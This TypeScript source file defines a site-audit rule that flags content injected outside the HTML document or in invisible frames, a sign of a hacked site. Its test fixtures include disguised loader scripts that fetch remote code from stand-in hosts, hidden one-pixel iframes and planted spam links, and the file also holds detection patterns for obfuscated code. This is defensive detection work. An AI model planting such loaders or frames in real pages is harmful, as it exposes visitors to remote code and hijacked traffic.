import { type MediaItem, media } from '../../facts/media.ts';
import { moneyTerms } from '../../grounds/money-terms.ts';
import { adNetworkOf, analyticsOf, consentVendorOf } from '../../lexicon/ad-hosts.ts';
import { KNOWN_SITES } from '../../lexicon/known-sites.ts';
import type { Page } from '../../page/page.ts';
import { pageAddress, siteOf } from '../../page/page-address.ts';
import { perPage } from '../../page/per-page.ts';
import { BREAD, CHLEB } from '../../samples/sample-prose.ts';
import { EXAMPLE_URL, type Example, examplePage, found, paragraphs } from '../example.ts';
import { type Quote, quoteAt, quoteWhole } from '../quote.ts';
import { CLEAR, rule } from '../rule.ts';
import { type Said, sentences } from '../sentences.ts';
import { countEn, countPl } from '../wording.ts';

const MAX_READ = 100_000;
/** Longer is a part of the page itself. */
const MAX_SOLD_WORDS = 400;
/** A counter, a maker's name and a partner link one site each; so many strangers were not put there by the template. */
const MIN_STRANGERS = 3;

/** Counters, tag managers and publishers use frames of one pixel, and templates append files of services that are on no list. */
const LIKELY = 0.4;
const CODE = 0.6;
const FRAME = 0.7;
const LINKS = 0.8;

interface Outside {
  readonly start: number;
  readonly end: number;
  readonly where: 'before' | 'after';
  readonly links: readonly Anchor[];
  readonly scripts: readonly string[];
  /** Inline code that loads other code in disguise, or from a host that it puts together. */
  readonly loader: boolean;
  /** Addresses that stand in it in plain sight, unless it disguises something. */
  readonly addresses: readonly string[];
  readonly words: number;
  /** What spam sells, in a text as short as planted ones are. */
  readonly sold: boolean;
}

interface Anchor {
  readonly href: string;
  /** Empty where it is a picture: the sign of a counter. */
  readonly text: string;
}

const wrapped = (note: string, change: (html: string) => string, lang: 'en' | 'pl' = 'en'): Example => {
  const { html = '' } = examplePage(note, { lang, body: paragraphs(...(lang === 'pl' ? CHLEB : BREAD)) });
  return { note, html: change(html), url: EXAMPLE_URL };
};
const PLANTED =
  '<div><a href="https://pills-24.example/">buy viagra online</a> <a href="https://casino-top.example/">casino bonus</a></div>';

/** How much of each stands outside of the document. */
interface Contents {
  readonly links: number;
  readonly scripts: number;
  readonly words: number;
}

const contentWords = {
  en: ({ links, scripts, words }: Contents): string =>
    `${countEn(links, 'link', 'links')}, ${countEn(scripts, 'script file or frame', 'script files or frames')} and ${countEn(words, 'word', 'words')}`,
  pl: ({ links, scripts, words }: Contents): string =>
    `${countPl(links, 'link', 'linki', 'linków')}, ${countPl(scripts, 'plik skryptu lub ramka', 'pliki skryptów lub ramki', 'plików skryptów lub ramek')}, ${countPl(words, 'słowo', 'słowa', 'słów')}`,
};

const say = sentences({
  before_document: {
    en: (contents: Contents) => `Before the document begins there are ${contentWords.en(contents)}.`,
    pl: (contents) => `Przed początkiem dokumentu znaleziono: ${contentWords.pl(contents)}.`,
  },
  after_document: {
    en: (contents: Contents) => `After the end of the document there are ${contentWords.en(contents)}.`,
    pl: (contents) => `Za końcem dokumentu znaleziono: ${contentWords.pl(contents)}.`,
  },
  invisible_frame: {
    en: ({ hosts }: { hosts: readonly string[] }) =>
      `An invisible frame loads a page from ${hosts.join(', ')}.`,
    pl: ({ hosts }) => `Niewidoczna ramka wczytuje stronę z: ${hosts.join(', ')}.`,
  },
});

export default rule({
  id: 'sp_hacked_tail_injection',
  mode: 'spam',
  policy: 'hacked_content',
  kind: 'violation',
  layer: 'markup',
  version: 5,
  title: {
    en: 'Content sits outside the HTML document or in a hidden frame',
    pl: 'Treść znajduje się poza dokumentem HTML lub w ukrytej ramce',
  },
  fix: {
    en: 'Remove what comes before or after the document, find the file that adds it, and update the system and its plugins.',
    pl: 'Usuń to, co znajduje się przed dokumentem lub po nim, ustal, który plik to dodaje, i zaktualizuj system wraz z wtyczkami.',
  },
  question: 'Is content injected before or after the document, or into frames that nobody can see?',
  sources: ['SP', 'UG'],
  answeredBy: 'code',
  shownBy: 'passages',
  mendedBy: 'clean_up',
  accuses: 'strong_or_beside',
  languages: 'any',
  needs: { wholePage: true, published: true },
  basis: 'measured',
  scoring:
    'Before the doctype or after the closing html tag, comments left out: 1 for links or a short text with trades of spam, 0.8 for named links to three unknown sites that outnumber those to the site itself, 0.6 for inline code that loads or disguises other code, 0.4 for a script file of an unknown site. A frame of another, unknown site with at most one pixel: 0.7 where its address is a number, has a port, names a trade of spam or is a script that hands visitors on (in.cgi, go.php); otherwise 0.4, because counters and publishers do the same.',
  says: say,
  detect(page) {
    const parts = outside(page)
      .map((part) => ({ part, score: scoreOf(page, part) }))
      .filter(({ score }) => score > 0)
      .sort((a, b) => b.score - a.score);
    const frames = media(page).filter((item) => isInvisibleFrame(page, item));
    const score = Math.max(
      parts[0]?.score ?? 0,
      frames.some(handsOn) ? FRAME : frames.length > 0 ? LIKELY : 0,
    );
    if (score === 0) return CLEAR;
    const quotes: (Quote | undefined)[] = [
      ...parts.map(({ part }) => quoteAt(page, { in: 'source' }, part.start, part.end)),
      ...frames.map((frame) => quoteWhole(page, { in: 'attribute', element: frame.element, name: 'src' })),
    ];
    return {
      score,
      quotes,
      facts: [...parts.map(({ part }) => partFact(part)), ...(frames.length > 0 ? [frameFact(frames)] : [])],
    };
  },
  examples: () => ({
    hit: [
      found(
        wrapped('links after the end', (html) => html + PLANTED),
        { says: ['after_document'], quotes: ['<div><a href="https://pills-24.example/">buy'] },
      ),
      found(
        wrapped('links before the doctype', (html) => PLANTED + html),
        { says: ['before_document'], quotes: ['<div><a href="https://pills-24.example/">buy'] },
      ),
      found(
        wrapped('a frame of one pixel', (html) =>
          html.replace(
            '</main>',
            '</main><iframe src="https://stat-tracker7.example/in.php" width="1" height="1"></iframe>',
          ),
        ),
        { says: ['invisible_frame'], quotes: ['https://stat-tracker7.example/in.php'] },
      ),
      found(
        wrapped(
          'code before the doctype that loads more',
          (html) =>
            `<script>var d="cdn-jq-update.example";document.write('<script src="https://'+d+'/x.js"><\\/script>');</script>${html}`,
        ),
        { says: ['before_document'], quotes: ['<script>var d="cdn-jq-update.example";document.wri'] },
      ),
      found(
        wrapped(
          'named links to three strangers after the end',
          (html) =>
            `${html}<div><a href="https://sofas-one.example/">leather corner sofas</a> <a href="https://tiles-two.example/">bathroom tiles</a> <a href="https://vans-three.example/">used vans</a></div>`,
        ),
        { says: ['after_document'], quotes: ['<div><a href="https://sofas-one.example/">leather'] },
      ),
      found(
        wrapped(
          'code after the end that spells its address in numbers',
          (html) =>
            `${html}<script>var a=String.fromCharCode(104,116,116,112,115,58,47,47);document.createElement("script").src=a+b;</script>`,
        ),
        { says: ['after_document'], quotes: ['<script>var a=String.fromCharCode(104,116,116,112,'] },
      ),
      found(
        wrapped('a frame of one pixel on a port of its own', (html) =>
          html.replace(
            '</main>',
            '</main><iframe src="http://qkzvtw.example:8080/" width="1" height="1"></iframe>',
          ),
        ),
        { says: ['invisible_frame'], quotes: ['http://qkzvtw.example:8080/'] },
      ),
      found(
        wrapped(
          'Polish, text after the end',
          (html) =>
            `${html}<p>Chwilówki bez BIK i kasyno online z bonusem, szybkie pożyczki przez internet, tanie tabletki na potencję, legalne sterydy i zakłady bukmacherskie.</p>`,
          'pl',
        ),
        { says: ['after_document'], quotes: ['<p>Chwilówki bez BIK i kasyno online z bonusem,'] },
      ),
    ],
    clear: [
      wrapped(
        'the sign of a counter and its script after the end',
        (html) =>
          `${html}<a href="https://counter-four.example/?me" title="statistics"><img src="https://counter-four.example/s.gif" alt="stats"></a><script src="https://counter-four.example/c.js"></script>`,
      ),
      wrapped(
        'a script file of a service that is on no list',
        (html) => `${html}<script src="https://widgets-for-banks.example/x.js"></script>`,
      ),
      wrapped(
        'the counter’s code as its maker gives it, with the tag written by its numbers',
        (html) =>
          `${html}<script>var h="https://ssl.";document.write(unescape("%3Cscript src='"+h+"counted.example/ga.js'%3E%3C/script%3E"));</script>`,
      ),
      wrapped(
        'a check of browsers that a firewall puts before every page',
        (html) =>
          `<APM_DO_NOT_TOUCH><script>(function(){window["bobcmn"]="10111";var x=String.fromCharCode(47);eval(x);})();</script></APM_DO_NOT_TOUCH>${html}`,
      ),
      wrapped(
        'a disclaimer that the server appends to pages of its users',
        (html) =>
          `${html}<p>The views on this unofficial page of faculty, staff or students are their own and not those of the university, which takes no responsibility for its contents.</p>`,
      ),
      wrapped('a frame of one pixel of a network', (html) =>
        html.replace(
          '</main>',
          '</main><iframe src="https://system.leads-natively.example/client" width="1" height="1"></iframe>',
        ),
      ),
      wrapped('the rest of a page whose template closes the document too early', (html) =>
        html.replace(
          '</main>',
          '</main></body></html><ul><li><a href="/one">Ovens</a></li><li><a href="/two">Mills</a></li><li><a href="/three">Flour</a></li><li><a href="https://a-guild.example/">Guild of bakers</a></li><li><a href="https://b-rye.example/">Rye institute</a></li><li><a href="https://c-mills.example/">Old mills</a></li></ul>',
        ),
      ),
      wrapped('a frame of one pixel that counts sales', (html) =>
        html.replace(
          '</main>',
          '</main><iframe src="https://ads-measured.example/universal?page_name=home&amp;goal_id=12" width="1" height="1"></iframe>',
        ),
      ),
      wrapped('the front page of the publisher’s other magazine', (html) =>
        html.replace(
          '</main>',
          '</main><iframe src="http://mirror-magazine.example" width="1" height="1" scrolling="no"></iframe>',
        ),
      ),
      wrapped('a head for old browsers whose end stands in a comment', (html) =>
        html
          .replace(
            '<html',
            '<!--[if lt IE 9]><html class="old"></html><![endif]--><!--[if gt IE 8]><!--><html',
          )
          .replace(/<\/html>\s*$/, ''),
      ),
      wrapped(
        'a door to the English pages of the site',
        (html) => `<script>window.location="/en"</script>\n${html}`,
      ),
      wrapped(
        'comment of the cache after the end',
        (html) => `${html}\n<!-- Page cached on disk, served in 0.012 s -->\n`,
      ),
      wrapped('tag manager frame', (html) =>
        html.replace(
          '<main>',
          '<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-1" height="0" width="0" style="display:none"></iframe></noscript><main>',
        ),
      ),
      wrapped(
        'own script after the end',
        (html) => `${html}<script>window.loaded = true;</script><script src="/js/late.js"></script>`,
      ),
      wrapped(
        'Polish page with an XML line first',
        (html) => `<?xml version="1.0" encoding="utf-8"?>\n${html}`,
        'pl',
      ),
    ],
  }),
});

/** As they are written; a copy of the whole source in lower case would cost more than the rest of the rule. */
const CLOSING_TAG = /<\/(?:html|HTML|Html)/y;

/** One walk from the end, where it stands on nearly every page. */
function lastClosingTag(source: string): number {
  for (let at = source.lastIndexOf('</'); at >= 0; at = at === 0 ? -1 : source.lastIndexOf('</', at - 1)) {
    CLOSING_TAG.lastIndex = at;
    if (CLOSING_TAG.test(source)) return at;
  }
  return -1;
}

const outside = perPage((page): readonly Outside[] => {
  const { source } = page;
  const parts: Outside[] = [];
  const begin = source.slice(0, MAX_READ).search(/<!doctype\s|<html[\s>]/i);
  if (begin > 0) parts.push(readPart(source, 0, begin, 'before'));
  const close = lastClosingTag(source);
  if (close >= 0) {
    const from = source.indexOf('>', close) + 1;
    // A second document, or the first one's head: the tag that was taken for its end stood in a comment.
    if (from > 0 && from < source.length && !/<(?:head|body)[\s>]/i.test(source.slice(from, from + MAX_READ)))
      parts.push(readPart(source, from, Math.min(source.length, from + MAX_READ), 'after'));
  }
  return parts;
});

function readPart(source: string, start: number, end: number, where: Outside['where']): Outside {
  const html = source
    .slice(start, end)
    .replace(/<!--[\s\S]*?-->/g, ' ')
    .replace(IN_PASSING, ' ');
  const links = [
    ...html.matchAll(/<a\s[^<>]{0,300}?href\s*=\s*["']?([^"'\s>]{1,300})[^<>]{0,300}>([^<]{0,200})/gi),
  ].map((m) => ({ href: m[1] ?? '', text: m[2]?.trim() ?? '' }));
  const scripts = [
    ...html.matchAll(/<(?:script|iframe)\s[^<>]{0,300}?src\s*=\s*["']?([^"'\s>]{1,300})/gi),
  ].map((m) => m[1] ?? '');
  const text = html
    .replace(/<(script|style|noscript)\b[\s\S]*?<\/\1\s*>/gi, ' ')
    .replace(/<[^<>]{0,2000}>/g, ' ')
    .trim();
  const words = text.split(/\s+/).filter((word) => /\p{L}{2}/u.test(word)).length;
  const disguises = DISGUISES.test(html);
  const first = source.slice(start, end).search(/\S/);
  return {
    start: start + Math.max(0, first),
    end,
    where,
    links,
    scripts,
    loader: disguises || (where === 'before' && LOADS.test(html)),
    addresses: disguises ? [] : (html.match(/(?:https?:)?\/\/[\w-]+\.[^\s"'<>]{2,200}/g) ?? []),
    words,
    sold: words > 0 && words < MAX_SOLD_WORDS && moneyTerms(text.slice(0, 4000)).length > 0,
  };
}

/** What WordPress prints for every page, spelling emoji by their numbers, and the checks that firewalls put before one. */
const IN_PASSING =
  /<script\b[^>]{0,200}>[^<]{0,200}(?:_wpemojiSettings|bobcmn|\/TSPD\/)[\s\S]*?<\/script\s*>|<APM_DO_NOT_TOUCH>[\s\S]*?<\/APM_DO_NOT_TOUCH>/gi;
/** `unescape("%3Cscript …")` is how makers of counters have always written a tag: everyone can read it. */
const DISGUISES =
  /<script\b[^>]{0,200}>(?:(?!<\/script)[\s\S]){0,4000}?(?:\beval\s{0,3}\((?!\s{0,3}\))|\batob\s{0,3}\(|fromCharCode|unescape\s{0,3}\(\s{0,3}["'](?!%3C(?:[a-z!]|["'])))/i;
/** Another script written into the page, or the visitor sent away, by an address that is put together. */
const LOADS =
  /<script\b[^>]{0,200}>(?:(?!<\/script)[\s\S]){0,4000}?(?:(?:document\.write|createElement\s{0,3}\(\s{0,3}["']script)(?:(?!<\/script)[\s\S]){0,400}?\/\/["']\s{0,3}\+|location(?:\.href)?\s{0,3}(?:=|\.replace\s{0,3}\()\s{0,3}["'](?:https?:)?\/\/)/i;

function isStranger(page: Page, address: string): boolean {
  const url = URL.parse(absolute(address));
  if (!url || !/^https?:$/.test(url.protocol)) return false;
  const site = siteOf(url.hostname);
  const own = pageAddress(page).site;
  const name = own.split('.', 1)[0] ?? '';
  return (
    site !== '' &&
    site !== own &&
    !(name.length > 2 && site.includes(name)) &&
    !KNOWN_SITES.has(site) &&
    !SERVICES.test(site) &&
    adNetworkOf(url.hostname, site) === undefined &&
    analyticsOf(url.hostname, site) === undefined &&
    consentVendorOf(url.hostname, site) === undefined
  );
}

/** Libraries, players and measuring services that templates append at the end. */
const SERVICES =
  /\.google$|adtrafficquality|cloudflare|jsdelivr|unpkg|jquery|gstatic|googleapis|bootstrapcdn|fontawesome|typekit|akamai|cloudfront|amazonaws|azureedge|fastly|statcounter|histats|hotjar|segment|intercom|zendesk|hubspot|hsforms|marketo|pardot|salesforce|force\.com|optimizely|tiqcdn|ensighten|adobe|demdex|omtrdc|newrelic|nr-data|sentry|datadog|recaptcha|onesignal|pushwoosh|disqus|trustpilot|bazaarvoice|powerreviews|klaviyo|tawk|crisp|drift|livechat|salesiq|zoho\.com|zopim|olark|matomo|plausible|snapchat|tiktok|bing\.com|yandex|criteo|doubleclick|facebook\.net|licdn|twimg|pinimg|wistia|vidyard|brightcove|jwplayer|jwplatform|liadm|rlcdn|krxd|bluekai|everesttech|agkn|mathtag|rfihub|adsrvr|quantserve|scorecardresearch|imrworldwide|chartbeat|parsely|tealium|qualtrics|medallia|foresee|usabilla|yottaa|akstat|go-mpulse|evidon|trustarc|truste|ketch|transcend|osano|fides/i;

function scoreOf(page: Page, part: Outside): number {
  const strangers = part.links.filter(({ href }) => isStranger(page, href));
  const sold = strangers.some(({ href }) => moneyTerms(URL.parse(href)?.hostname ?? '').length > 0);
  if (sold || part.sold) return 1;
  const named = strangers.filter(({ text }) => /\p{L}{2}/u.test(text));
  const sites = new Set(named.map(({ href }) => siteOf(URL.parse(absolute(href))?.hostname ?? '')));
  if (sites.size >= MIN_STRANGERS && named.length * 2 > part.links.length) return LINKS;
  const ofService = part.addresses.length > 0 && !part.addresses.some((address) => isStranger(page, address));
  if (part.loader && !ofService) return CODE;
  return part.scripts.some((script) => isStranger(page, script)) ? LIKELY : 0;
}

function isInvisibleFrame(page: Page, item: MediaItem): boolean {
  if (item.tag !== 'iframe' || !item.external || item.provider !== undefined || item.kind === 'ad')
    return false;
  const element = page.dom.elements[item.element];
  if (!element || !isStranger(page, item.src)) return false;
  for (let at = item.element; at >= 0; at = page.dom.parent[at] ?? -1)
    if (page.dom.elements[at]?.name === 'noscript') return false;
  const style = (element.attribs.style ?? '').toLowerCase();
  const none = /(?:^|[;\s])(?:width|height)\s*:\s*[01](?:px)?\s*(?:;|$|!)/.test(style);
  // Frames that a service talks through bear its name.
  const named =
    element.attribs.title !== undefined ||
    element.attribs.name !== undefined ||
    element.attribs.id !== undefined;
  return !named && (item.invisible || none) && !counts(item.src);
}

/** Frames of one pixel count visits and sales since before there were scripts for it, and say so in their address. */
const COUNTS =
  /pixel|beacon|convers|goal|retarget|remarket|sync|page_name|postback|impression|floodlight|activity|event=/i;

function counts(address: string): boolean {
  const url = URL.parse(absolute(address));
  return url !== null && COUNTS.test(url.pathname + url.search);
}

/** Scripts that sell each visitor to the highest bidder. */
const TRAFFIC = /\/(?:in|go|out|tds|stds|jump)\.(?:cgi|php)\b/i;
const IN_NUMBERS = /^(?:\d{1,3}(?:\.\d{1,3}){3}|\[[0-9a-f:.]+\])$/i;

/** Not merely a counter: a port or a number for a host, a trade of spam, a script that hands visitors on. */
function handsOn({ src }: MediaItem): boolean {
  const url = URL.parse(absolute(src));
  return (
    url !== null &&
    (url.port !== '' ||
      IN_NUMBERS.test(url.hostname) ||
      TRAFFIC.test(url.pathname) ||
      moneyTerms(url.hostname).length > 0)
  );
}

function absolute(address: string): string {
  return address.startsWith('//') ? `https:${address}` : address;
}

function partFact({ where, links, scripts, words }: Outside): Said {
  const contents = { links: links.length, scripts: scripts.length, words };
  return where === 'before' ? say.before_document(contents) : say.after_document(contents);
}

function frameFact(frames: readonly MediaItem[]): Said {
  return say.invisible_frame({ hosts: [...new Set(frames.map(({ host }) => host))].slice(0, 3) });
}
